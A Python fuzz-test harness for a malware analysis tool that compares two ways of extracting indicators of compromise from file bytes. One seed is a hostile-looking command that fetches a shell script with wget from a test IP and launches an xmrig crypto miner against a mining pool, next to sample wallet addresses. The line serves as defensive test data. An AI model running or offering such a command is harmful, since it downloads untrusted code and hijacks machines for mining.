"""IOC extraction from file contents: the yara-x-guided path against the plain Python one.

Contract: `indicators_in` (patterns tried only where yara-x found candidates) and
`find_indicators` (every offset) return the same `Found` for any bytes, as
`find_indicators` documents; neither raises.
"""

from __future__ import annotations

from collections.abc import Iterator

from fuzz_harness import TESTS, check, files_under

from detonate.static.content_pass import indicators_in
from detonate.static.indicators import Found, find_indicators
from detonate.static.ioc_scope import FILE_BYTES
from detonate.static.yara_rules import compiled_rules

TIME_BOUND = 5.0
_COMPILED = compiled_rules()


def seeds() -> Iterator[bytes]:
    for rule in ("ioc-mining-pool", "miner-config"):
        yield from files_under(TESTS / "rules" / "samples" / rule)
    yield b"wget http://198.51.100.7/x.sh; xmrig -o stratum+tcp://pool.test:3333 -u 4" + b"A" * 94
    yield b"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"


def fuzz(data: bytes) -> None:
    guided = indicators_in(data, _COMPILED).found
    plain = find_indicators(data[:FILE_BYTES])
    check(isinstance(guided, Found) and isinstance(plain, Found), "no Found")
    check(guided == plain, f"yara-guided {guided} != plain {plain}")
